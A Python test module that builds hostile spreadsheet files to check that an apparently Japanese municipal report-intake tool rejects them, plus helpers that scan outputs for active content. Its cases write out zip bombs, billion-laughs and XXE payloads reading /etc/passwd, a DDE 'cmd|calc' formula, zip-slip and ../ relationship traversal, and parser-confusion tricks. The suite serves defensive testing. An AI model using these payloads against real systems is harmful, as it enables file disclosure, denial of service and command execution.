def zip_bomb_total(ctx, inbox):
    """210 parts of 1 MB of zeros: each under the size from which its ratio is checked, 210 MB in all."""
    zeros = b"\0" * MiB
    return edit_zip(ctx.good(H), hostile(inbox), {}, [(f"xl/media/z{i}.bin", zeros) for i in range(210)])


@case("zip", "rejected", "F006")
def zip_bomb_lying_header(ctx, inbox):
    """64 MB of zeros in a part whose headers say 4 KB."""
    return patch_raw(_with_zeros(ctx, inbox, 64 * MiB), "xl/media/image1.png", declared_size=4096)


@case("zip", "rejected", "F006")
def zip_bomb_lying_sheet(ctx, inbox):
    """The 取組状況 sheet padded to 64 MB while its headers declare the original size."""
    source = ctx.good(H)
    part = sheet_part(source, ITEMS)
    target = hostile(inbox)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members(source):
            if name != part:
                zf.writestr(name, data)
                continue
            original = len(data)
            head, tail = data.split(b"</sheetData>")
            with zf.open(part, "w", force_zip64=True) as w:
                w.write(head)
                for _ in range(64):
                    w.write(b" " * MiB)
                w.write(b"</sheetData>" + tail)
    return patch_raw(target, part, declared_size=original)


@case("zip", "skipped", "F009")
def zip_many_parts(ctx, inbox):
    return edit_zip(ctx.good(H), hostile(inbox), {}, [(f"xl/media/p{i}.bin", b"x") for i in range(1200)])


@case("zip", "skipped", "F008")
def file_too_large(ctx, inbox):
    """25 MB on disk (a stored part of random bytes)."""
    target = ctx.good_copy(H, hostile(inbox))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_STORED) as zf:
        zf.writestr("xl/media/big.bin", random.Random(1).randbytes(25 * MiB))
    return target


# --- XML attacks ---------------------------------------------------------------------------------------
LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)) + b"]>")
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@case("xml", "rejected", "F007")
def billion_laughs(ctx, inbox):
    return edit_sheet(ctx, hostile(inbox), ITEMS,
                      lambda x: with_doctype(x, LAUGHS).replace(b"<v>100000</v>", b"<v>&lol9;</v>", 1))


@case("xml", "rejected", "F007")
def quadratic_blowup(ctx, inbox):
    """A 50 KB entity used 50,000 times."""
    doctype = b'<!DOCTYPE q [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
    return edit_sheet(ctx, hostile(inbox), ITEMS, lambda x: with_doctype(x, doctype).replace(
        b"</sheetData>", b"<row r='999'><c r='A999' t='inlineStr'><is><t>" + b"&a;" * 50_000
        + b"</t></is></c></row></sheetData>"))


@case("xml", "rejected", "F007")
def xxe_sheet(ctx, inbox):
    return edit_sheet(ctx, hostile(inbox), ITEMS,
                      lambda x: with_doctype(x, XXE).replace(b"<v>100000</v>", b"<v>&xxe;</v>", 1))


@case("xml", "skipped", "F007")
def xxe_custom(ctx, inbox):
    """An external entity where the section's name goes (docProps/custom.xml)."""
    return edit_zip(ctx.good(H), hostile(inbox), {"docProps/custom.xml": lambda x: with_doctype(x, XXE).replace(
        "財政課".encode(), b"&xxe;")})


@case("xml", "rejected", "F007")
def xxe_content_types(ctx, inbox):
    return edit_zip(ctx.good(H), hostile(inbox), {"[Content_Types].xml": lambda x: with_doctype(x, XXE)})


def _utf16(xml: bytes) -> bytes:
    body = re.sub(rb"^<\?xml[^>]*\?>", b"", xml)
    return '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16") + body.decode().encode("utf-16-le")


@case("xml", "rejected", "F007")
def laughs_utf16_sheet(ctx, inbox):
    """Billion laughs in a UTF-16 sheet (a byte-wise DTD scan does not see it; the parser refuses the DTD)."""
    return edit_sheet(ctx, hostile(inbox), ITEMS, lambda x: _utf16(with_doctype(
        re.sub(rb"^<\?xml[^>]*\?>", b"", x), LAUGHS).replace(b"<v>100000</v>", b"<v>&lol9;</v>", 1)))


@case("xml", "skipped", "F007")
def xxe_utf16_custom(ctx, inbox):
    return edit_zip(ctx.good(H), hostile(inbox), {"docProps/custom.xml": lambda x: _utf16(
        with_doctype(x, XXE).replace("財政課".encode(), b"&xxe;"))})


def _nest(depth: int) -> bytes:
    return b"<a>" * depth + b"x" + b"</a>" * depth


@case("xml", "accepted")
def deep_nesting_sheet(ctx, inbox):
    """120,000 nested elements in an extension of the 取組状況 sheet."""
    return edit_sheet(ctx, hostile(inbox), ITEMS, lambda x: sub1(
        x, rb"</worksheet>", b'<extLst><ext uri="{deep}">' + _nest(120_000) + b"</ext></extLst></worksheet>"))


@case("xml", "accepted")
def deep_nesting_workbook(ctx, inbox):
    return edit_zip(ctx.good(H), hostile(inbox), {"xl/workbook.xml": lambda x: sub1(
        x, rb"</workbook>", _nest(50_000) + b"</workbook>")})


@case("xml", "accepted")
def deep_nesting_custom(ctx, inbox):
    return edit_zip(ctx.good(H), hostile(inbox), {"docProps/custom.xml": lambda x: sub1(
        x, rb"</Properties>", _nest(50_000) + b"</Properties>")})


@case("xml", "rejected", "V010")
def huge_text_node(ctx, inbox):
    """10,000,000 characters in 取組実績."""
    text = random.Random(2).randbytes(5 * MiB).hex()
    return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, RESULT, (f"<is><t>{text}</t></is>", "inlineStr"))])


@case("xml", "accepted")
def huge_attribute(ctx, inbox):
    """An 8 MB attribute value on <sheetData>."""
    junk = random.Random(3).randbytes(4 * MiB).hex().encode()
    return edit_sheet(ctx, hostile(inbox), ITEMS, lambda x: sub1(x, rb"<sheetData>", b'<sheetData junk="' + junk + b'">'))


# --- parts the cell reader (python-calamine) finds otherwise than the checks would --------------------------
# calamine looks a part up in any case, follows the package's officeDocument, takes a sheet's relationship target
# as written and its last "id" attribute: the checks (formulas, far cells, DTDs) must see the very part it reads.
_DDE = formula("cmd|' /C calc'!A0", "0")


def _moved_sheet(source: Path, target: Path, new_name: str, change: Callable[[bytes], bytes] = lambda x: x) -> Path:
    """``source`` with its 取組状況 sheet stored as ``new_name`` (its relationship and content type following)."""
    part = sheet_part(source, ITEMS)
    relative = part.removeprefix("xl/").encode()
    return edit_zip(source, target, {
        part: None,
        "xl/_rels/workbook.xml.rels": lambda x: x.replace(relative, new_name.removeprefix("xl/").encode()),
        "[Content_Types].xml": lambda x: x.replace(b"/" + part.encode(), b"/" + new_name.encode())},
        add=[(new_name, change(dict(members(source))[part]))])


def _dde_in_yen(ctx: Ctx) -> Path:
    return with_cells(ctx, ctx.scratch(), [(ITEMS, ctx.item, YEN, _DDE)])


@case("xml", "rejected", "V009")
def sheet_outside_worksheets_folder(ctx, inbox):
    """The 取組状況 sheet stored as xl/evil/sheet9.xml, with a DDE formula in 財政効果額 (was read unchecked)."""
    return _moved_sheet(_dde_in_yen(ctx), hostile(inbox), "xl/evil/sheet9.xml")


@case("xml", "rejected", "F012")
def sheet_outside_worksheets_folder_far_cell(ctx, inbox):
    """Moved out of xl/worksheets/ with a cell at XFD1048576: the cell range is counted all the same."""
    return _moved_sheet(ctx.good(H), hostile(inbox), "xl/evil/sheet9.xml", lambda x: x.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'))


@case("xml", "rejected", "F007")
def sheet_not_named_xml_with_dtd(ctx, inbox):
    """The sheet stored as xl/worksheets/sheet2.dat, with an external entity."""
    return _moved_sheet(ctx.good(H), hostile(inbox), "xl/worksheets/sheet2.dat", lambda x: with_doctype(
        x, b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'))


@case("xml", "rejected", "F016")
def sheet_target_in_another_case(ctx, inbox):
    """The sheet's relationship target in capitals (calamine finds the part in any case): not read."""
    source = _dde_in_yen(ctx)
    relative = sheet_part(source, ITEMS).removeprefix("xl/").encode()
    return edit_zip(source, hostile(inbox), {"xl/_rels/workbook.xml.rels": lambda x: x.replace(relative, relative.upper())})


@case("xml", "rejected", "F021")
def parts_differing_only_in_case(ctx, inbox):
    """A second 取組状況 sheet part whose name differs only in case (calamine would read one, the checks the other)."""
    source = ctx.good(H)
    part = sheet_part(source, ITEMS)
    return edit_zip(source, hostile(inbox), add=[(part.upper(), dict(members(_dde_in_yen(ctx)))[part])])


@case("xml", "rejected", "F016")
def workbook_elsewhere(ctx, inbox):
    """_rels/.rels makes evil/workbook.xml the workbook (calamine follows it), a copy of xl/ with a DDE formula."""
    source = ctx.good(H)
    evil = [("evil/" + name.removeprefix("xl/"), body.replace(b'Target="/xl/', b'Target="/evil/'))
            for name, body in members(_dde_in_yen(ctx)) if name.startswith("xl/")]
    return edit_zip(source, hostile(inbox), {"_rels/.rels": lambda x: sub1(x, rb'Target="/?xl/workbook.xml"',
                                                                         b'Target="/evil/workbook.xml"')}, add=evil)


@case("xml", "rejected", "F016")
def sheet_with_a_second_id(ctx, inbox):
    """The 取組状況 sheet's tag carries a second, unprefixed id (calamine takes the last) to a sheet with a formula."""
    source = ctx.good(H)
    part = sheet_part(source, ITEMS)
    name = layout.SHEET_ITEMS.encode()
    return edit_zip(source, hostile(inbox), {
        "xl/workbook.xml": lambda x: re.sub(rb'(<sheet [^>]*name="' + name + rb'"[^>]*?)\s*/>', rb'\1 id="rId99"/>', x, 1),
        "xl/_rels/workbook.xml.rels": lambda x: x.replace(b"</Relationships>", (
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'worksheet" Target="worksheets/sheet99.xml"/></Relationships>'))},
        add=[("xl/worksheets/sheet99.xml", dict(members(_dde_in_yen(ctx)))[part])])


@case("xml", "rejected", "F016")
def sheet_rel_traversal(ctx, inbox):
    """The 取組状況 sheet's relationship points at ../../../../../etc/passwd."""
    part = sheet_part(ctx.good(H), ITEMS)
    return edit_zip(ctx.good(H), hostile(inbox), {"xl/_rels/workbook.xml.rels": lambda x: sub1(
        x, rb'Target="/?' + re.escape(part.encode()) + rb'"', b'Target="../../../../../etc/passwd"')})


@case("xml", "rejected", "F016")
def invalid_utf8(ctx, inbox):
    ref = ctx.ref(ITEMS, ctx.item, RESULT)
    return edit_sheet(ctx, hostile(inbox), ITEMS, lambda x: set_cell(x, ref, *inline("@@")).replace(
        b"@@", b"\xff\xfe\xc0\x80"))


_STRICT = [
    (b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
    (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
     b"http://purl.oclc.org/ooxml/officeDocument/relationships"),
    (b"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties",
     b"http://purl.oclc.org/ooxml/officeDocument/customProperties"),
    (b"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes",
     b"http://purl.oclc.org/ooxml/officeDocument/docPropsVTypes"),
    (b"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties",
     b"http://purl.oclc.org/ooxml/officeDocument/extendedProperties"),
    (b"http://schemas.openxmlformats.org/drawingml/2006/main", b"http://purl.oclc.org/ooxml/drawingml/main"),
]


@case("xml", "accepted")
def strict_ooxml(ctx, inbox):
    def strict(data: bytes) -> bytes:
        for old, new in _STRICT:
            data = data.replace(old, new)
        return data

    source = ctx.good(H)
    changes: dict[str, Change] = {n: strict for n, _ in members(source) if n.endswith((".xml", ".rels"))}
    changes["xl/workbook.xml"] = lambda x: strict(x).replace(b"<workbook ", b'<workbook conformance="strict" ', 1)
    return edit_zip(source, hostile(inbox), changes)


@case("xml", "accepted", "V015")
def date1904(ctx, inbox):
    """A date1904 workbook: KPI 実績値 50000 stays the number 50000 (and, far from the KPI's scale of a
    few 施設, gets the officer's check V015 — a date would not). (50000 is no day of the fiscal year's two calendar
    years in either date system: 45000 is 2027-03-15 in this one, V025's day serial.)"""
    source = with_cells(ctx, ctx.scratch(), [(KPI, ctx.kpi, ACTUAL, ("<v>50000</v>", None))])
    return edit_zip(source, hostile(inbox), {"xl/workbook.xml": lambda x: re.sub(
        rb"<workbookPr\b", b'<workbookPr date1904="1"', x, count=1)})


# --- cell contents ---------------------------------------------------------------------------------------
@case("cells", "rejected", "V010")
def text_40000(ctx, inbox):
    """40,000 characters in 取組実績 and a KPI 備考 (written into the XML: openpyxl would cut them)."""
    return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, RESULT, inline("あ" * 40_000)),
                                            (KPI, ctx.kpi, NOTE, inline("い" * 40_000))])


@case("cells", "rejected", "V001")
def control_x_escapes(ctx, inbox):
    """Control characters as _x0001_ escapes in 取組実績 and 進捗状況."""
    return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, RESULT, inline("実施_x0001__x001B_[31m_x0007_した_x000B_")),
                                            (ITEMS, ctx.item, GRADE, inline("A_x0000_"))])


@case("cells", "accepted")
def control_char_refs(ctx, inbox):
    """Control characters as &#x1; references (not allowed in XML 1.0)."""
    return with_cells(ctx, hostile(inbox), [(ITEMS, ctx.item, RESULT, ("<is><t>a&#x1;b&#x1b;c</t></is>", "inlineStr"))])


@case("cells", "rejected", "V001")
def unicode_tricks(ctx, inbox):
    """Bidi override, zero-width space, BOM, an emoji and U+FFFE in text; a full-width grade."""
    value = "実施\u202e.exe\u200b\ufeff\U0001F600\ufffe"
    return ctx.filled(H, hostile(inbox), {ITEMS: {ctx.item: {RESULT: value, GRADE: "Ａ\u3000計画どおり\u200b"}}})


@case("cells", "accepted", "V011")
def protection_removed_plan_changed(ctx, inbox):
    def change(wb):
        for name in (ITEMS, KPI):
            wb[name].protection.sheet = False
        wb[ITEMS][ctx.ref(ITEMS, ctx.item, "改革項目")].value = "書き換えた項目名"
        target = next(c.value for c in wb[KPI][layout.HEADER_ROW + 1] if str(c.value).startswith("目標値"))
        wb[KPI][ctx.ref(KPI, ctx.kpi, target)].value = 1
    return edit_wb(ctx.good(H), hostile(inbox), change)


@case("cells", "rejected", "S007", "S010")
def rows_inserted(ctx, inbox):
    """Two rows inserted mid-table, one with an ID the plan does not have (and a text beyond the form's columns:
    S010)."""
    def change(wb):
        ws = wb[ITEMS]
        start = _data_rows(ws).start
        ws.insert_rows(start + 2, 2)
        ws.cell(row=start + 2, column=1, value="9-9-9")
        ws.cell(row=start + 2, column=12, value="勝手に追加した行")
    return edit_wb(ctx.good(H), hostile(inbox), change)


@case("cells", "accepted")
def rows_inserted_blank(ctx, inbox):
    def change(wb):
        ws = wb[ITEMS]
        ws.insert_rows(_data_rows(ws).start + 1, 3)
    return edit_wb(ctx.good(H), hostile(inbox), change)


@case("cells", "accepted")
def rows_sorted(ctx, inbox):
    def change(wb):
        ws = wb[ITEMS]
        rows = list(_data_rows(ws))
        values = [[ws.cell(row=r, column=c).value for c in range(1, ws.max_column + 1)] for r in rows]
        for r, vals in zip(rows, reversed(values)):
            for c, v in enumerate(vals, start=1):
                ws.cell(row=r, column=c).value = v
    return edit_wb(ctx.good(H), hostile(inbox), change)


@case("cells", "rejected", "S005")
def rows_deleted(ctx, inbox):
    def change(wb):
        ws = wb[ITEMS]
        ws.delete_rows(_data_rows(ws).start + 1, 1)
    return edit_wb(ctx.good(H), hostile(inbox), change)


@case("cells", "rejected", "S005", "S006")
def rows_duplicated(ctx, inbox):
    def change(wb):
        ws = wb[ITEMS]
        start = _data_rows(ws).start
        ws.cell(row=start + 1, column=1).value = ws.cell(row=start, column=1).value
    return edit_wb(ctx.good(H), hostile(inbox), change)


PASTED = 3000  # rows pasted under the table, of each kind (enough that one message a row floods every output)


@case("cells", "rejected", "S006", "S007", "S008", "S018")
def rows_pasted(ctx, inbox):
    """Thousands of rows pasted under the table: without an ID (S008), with IDs not the section's (S007) and
    copies of its first row (S006). Each kind is said for 20 rows, the rest counted once (S018): one message a
    row made a 受付結果 of thousands of lines and a 差し戻し copy whose one comment grew with every row (quadratic)."""
    def change(wb):
        ws = wb[ITEMS]
        grade, result = (ws[ctx.ref(ITEMS, ctx.item, label)].column for label in (GRADE, RESULT))
        start = ws.max_row + 2
        for n in range(3 * PASTED):
            row_id = (None, f"9-9-{n}", ctx.item)[n % 3]
            ws.cell(row=start + n, column=1, value=row_id)
            ws.cell(row=start + n, column=grade, value="A")
            ws.cell(row=start + n, column=result, value=f"貼り付けた行 {n}")
    return edit_wb(ctx.good(H), hostile(inbox), change)


@case("cells", "accepted", "S010", "S017")
def value_filled_to_xfd(ctx, inbox):
    """A note typed right of the table and filled to the sheet's last column (Ctrl+Shift+→, Ctrl+Enter): 20
    columns said one by one, the other 16,353 counted in one S017 (not 16,373 lines in the 受付結果)."""
    def change(wb):
        ws = wb[ITEMS]
        row = ws[ctx.ref(ITEMS, ctx.item, GRADE)].row
        for column in range(12, 16385):  # L … XFD
            ws.cell(row=row, column=column, value="メモ")
    return edit_wb(ctx.good(H), hostile(inbox), change)


@case("cells", "rejected", "S001")
def sheet_deleted(ctx, inbox):
    return edit_wb(ctx.good(H), hostile(inbox), lambda wb: wb.remove(wb[KPI]))


@case("cells", "rejected", "F036")  # the form's sheets say whose it is (it was M001, a file of no one's)
def meta_sheet_deleted(ctx, inbox):
    def change(wb):
        wb.remove(wb[META])
        wb.custom_doc_props.props.clear()
    return edit_wb(ctx.good(H), hostile(inbox), change)


# --- identity ---------------------------------------------------------------------------------------------
@case("identity", "rejected", "M004")
def other_year(ctx, inbox):
    return ctx.filled(H, hostile(inbox, name_of(H, YEAR + 1)), year=YEAR + 1)


@case("identity", stands_for=(H, H2))
def swapped_names(ctx, inbox):
    """財政課's and 税務課's returns under each other's file names: read by their content."""
    return {ctx.good_copy(H, hostile(inbox, name_of(H2))): expect("accepted"),
            ctx.good_copy(H2, hostile(inbox, name_of(H))): expect("accepted")}


@case("identity", stands_for=(H, H2))
def swapped_metadata(ctx, inbox):
    """Each return says it is the other section's (the sheets stay): the rows do not match."""
    return {edit_wb(ctx.good(H), hostile(inbox, name_of(H)), lambda wb: set_section(wb, H2)):
            expect("rejected", "S005", "S007"),
            edit_wb(ctx.good(H2), hostile(inbox, name_of(H2)), lambda wb: set_section(wb, H)):
            expect("rejected", "S005", "S007")}


@case("identity")
def two_files_one_section(ctx, inbox):
    first = ctx.good_copy(H, hostile(inbox, "財政課_1.xlsx"))
    second = ctx.filled(H, hostile(inbox, "財政課_2.xlsx"), {ITEMS: {ctx.item: {RESULT: "二通目"}}})
    return {first: expect("accepted", "L002", "L003"), second: expect("accepted", "L003")}


# --- other formats ------------------------------------------------------------------------------------------
_XLS = cfb({"Workbook": b"\x09\x08" + b"\0" * 100})
_ODS = [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<x/>")]


def _written(target: Path, data: bytes) -> Path:
    target.write_bytes(data)
    return target


@case("formats", "skipped", "F002")
def xls(ctx, inbox):
    return _written(hostile(inbox, name_of(H).removesuffix(".xlsx") + ".xls"), _XLS)


@case("formats", "skipped", "F002")
def xls_renamed_xlsx(ctx, inbox):
    return _written(hostile(inbox), _XLS)


@case("formats", "skipped", "F002")
def ods(ctx, inbox):
    return write_zip(hostile(inbox, name_of(H).removesuffix(".xlsx") + ".ods"), _ODS)


@case("formats", "skipped", "F002")
def ods_renamed_xlsx(ctx, inbox):
    return write_zip(hostile(inbox), _ODS)


@case("formats", "skipped", "F034")
def mail_bomb(ctx, inbox):
    """A saved mail of multiparts nested 20,000 deep, named as the form: said as a mail, never parsed."""
    nested = b"".join(b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i - 1, i)
                      for i in range(1, 20_000))
    return _written(hostile(inbox), b'From: a@b\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary="b0"\r\n\r\n'
                    + nested)


@case("formats", "skipped", "F034")
def outlook_message_cut_short(ctx, inbox):
    """An Outlook message (.msg) whose streams end before the file does."""
    streams = {"__properties_version1.0": b"\0" * 32}
    streams.update({f"__attach_version1.0_#{n:08X}/__substg1.0_3707001F": f"{n}.xlsx".encode("utf-16-le")
                    for n in range(8)})
    return _written(hostile(inbox, "財政課より.msg"), cfb(streams)[:5000])


@case("formats", "skipped", "F005")
def encrypted(ctx, inbox):
    return _written(hostile(inbox), cfb({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\0" * 64}))


@case("formats", "skipped", "F006")
def truncated_half(ctx, inbox):
    data = ctx.good(H).read_bytes()
    return _written(hostile(inbox), data[:len(data) // 2])


@case("formats", "skipped", "F006")
def truncated_no_eocd(ctx, inbox):
    """The last 10 bytes cut: no end of central directory."""
    return _written(hostile(inbox), ctx.good(H).read_bytes()[:-10])


@case("formats", "skipped", "F004")
def empty(ctx, inbox):
    return _written(hostile(inbox), b"")


@case("formats", "skipped", "F002")
def csv_renamed(ctx, inbox):
    return _written(hostile(inbox), "ID,進捗状況,取組実績\n2-2-1,A,\"=cmd|' /C calc'!A0\"\n2-2-2,B,ok\n".encode())


@case("formats", "skipped", "F003")
def html_renamed(ctx, inbox):
    return _written(hostile(inbox), ("<html><body><table><tr><td>ID</td><td>進捗状況</td></tr><tr><td>2-2-1</td>"
                                     "<td><a href='http://evil.example'>A</a></td></tr></table></body></html>").encode())


@case("formats", "skipped", "F002")
def xml_spreadsheet_renamed(ctx, inbox):
    return _written(hostile(inbox), b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook '
                                    b'xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="x" '
                                    b'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"/></Workbook>')


@case("formats", "skipped", "F003")
def zip_renamed(ctx, inbox):
    """A plain zip with a ../ member, named .xlsx."""
    return write_zip(hostile(inbox), [("readme.txt", b"hello"), ("../../escape.txt", b"zip slip")])


@case("formats", "ignored", "F017", stands_for=())
def lock_files(ctx, inbox):
    """Excel's and LibreOffice's lock files (beside a good return of every section)."""
    name = name_of(H)
    excel = _written(hostile(inbox, "~$" + name), b"\x0bJinji Gyosei" + b"\x20" * 40 + b"\0" * 100)
    libre = _written(hostile(inbox, ".~lock." + name + "#"),
                     "人事行政課,user,host,01.12.2026 10:00,file:///home/user/.config/libreoffice/4;\n".encode())
    return [excel, libre]


@case("formats", "rejected", "V002")
def lock_file_is_workbook(ctx, inbox):
    """A real workbook named like a lock file (an owner file Excel writes is ~165 bytes): read as the return it is
    (here rejected for a blank 進捗状況), never passed over with its answers as a lock file."""
    return ctx.filled(H, hostile(inbox, "~$" + name_of(H)), {ITEMS: {ctx.item: {GRADE: None}}})


# ====================================================================== what the tests look at
def snapshot(root: Path, *, folders: bool = False) -> dict[str, tuple]:
    """Every entry under ``root`` as it is on disk (links and FIFOs never followed or opened):
    relative path → (kind, size, sha256 / link target, mtime); ``folders``: with folder mtimes too."""
    import hashlib

    found: dict[str, tuple] = {}
    for folder, dirs, names in os.walk(root):
        for name in dirs + names:
            path = Path(folder) / name
            st = path.lstat()
            rel = path.relative_to(root).as_posix()
            if stat.S_ISLNK(st.st_mode):
                found[rel] = ("link", os.readlink(path))
            elif stat.S_ISREG(st.st_mode):
                digest = hashlib.sha256()
                with open(path, "rb") as f:
                    while chunk := f.read(MiB):
                        digest.update(chunk)
                found[rel] = ("file", st.st_size, digest.hexdigest(), st.st_mtime_ns, st.st_mode)
            elif stat.S_ISDIR(st.st_mode):
                found[rel] = ("folder", st.st_mtime_ns if folders else None)
            else:
                found[rel] = ("special", stat.S_IFMT(st.st_mode), st.st_mtime_ns)
    return found


HOSTILE_MARKERS = (b"cmd|", b"HYPERLINK", b"SUM(1)", b"evil", b"[1]", b"_xlfn.SINGLE", b"calc")
OWN_PARTS = re.compile(  # every part the tool's own writer (xlsxwriter) makes
    r"^(\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core|custom)\.xml|xl/workbook\.xml|xl/styles\.xml|"
    r"xl/sharedStrings\.xml|xl/theme/theme1\.xml|xl/(_rels/workbook|worksheets/(_rels/)?sheet\d+|comments\d+|"
    r"charts/chart\d+|drawings/(_rels/)?(drawing\d+|vmlDrawing\d+))\.(xml|vml)(\.rels)?)$")


def own_formulas(year: int = YEAR) -> set[str]:
    """The outputs that hold formulas of their own (their counts and rates): the meeting workbook,
    its office copy and 公表用. Every other output holds none."""
    words = bundled_words()
    return {outputs.meeting(words, year), outputs.meeting_office(words, year), outputs.public(words, year)}


def csv_formulas(path: Path) -> list[str]:
    """Cells of a CSV output that a spreadsheet would take for a formula (text starting with
    =, +, -, @, a tab or CR; a number such as -3 is fine)."""
    import csv

    found = []
    with path.open(encoding="utf-8-sig", newline="") as f:
        for row in csv.reader(f):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    try:
                        float(cell)
                    except ValueError:
                        found.append(cell[:60])
    return found


def active_content(path: Path, *, own_formulas: bool) -> list[str]:
    """What in an output workbook could run, call out or link out. ``own_formulas``: the workbook
    may hold formulas of its own (the meeting workbook), but none that came from an input."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for info in zf.infolist():
            name = info.filename
            lowered = name.lower()
            if "vbaproject" in lowered or lowered.endswith(".bin"):
                found.append(f"binary part {name}")
            if lowered.startswith(("xl/externallinks/", "xl/embeddings/", "customxml/")):
                found.append(f"part {name}")
            if not OWN_PARTS.match(name):
                found.append(f"unknown part {name}")
            data = zf.read(info)
            if data.startswith(OLE2_MAGIC) or b"vbaProject" in data:
                found.append(f"macro or OLE object in {name}")
            if name.endswith(".rels") and b'TargetMode="External"' in data:
                found.append(f"external target in {name}")
            if name == "xl/workbook.xml" and b"externalReference" in data:
                found.append("external reference in the workbook")
            if b"ddeLink" in data or b"ddeService" in data:
                found.append(f"DDE link in {name}")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                formulas = re.findall(rb"<f\b[^>]*>(.*?)</f>|<f\b[^>]*/>", data, flags=re.S)
                if formulas and not own_formulas:
                    found.append(f"{len(formulas)} formula(s) in {name}: {formulas[0][:60]!r}")
                found += [f"formula from an input in {name}: {f[:60]!r}" for f in formulas
                          if any(m in f for m in HOSTILE_MARKERS) or b"|" in f]
                if re.search(rb"<hyperlink\b[^>]*\br:id=", data):
                    found.append(f"hyperlink to an outside target in {name}")
    return found
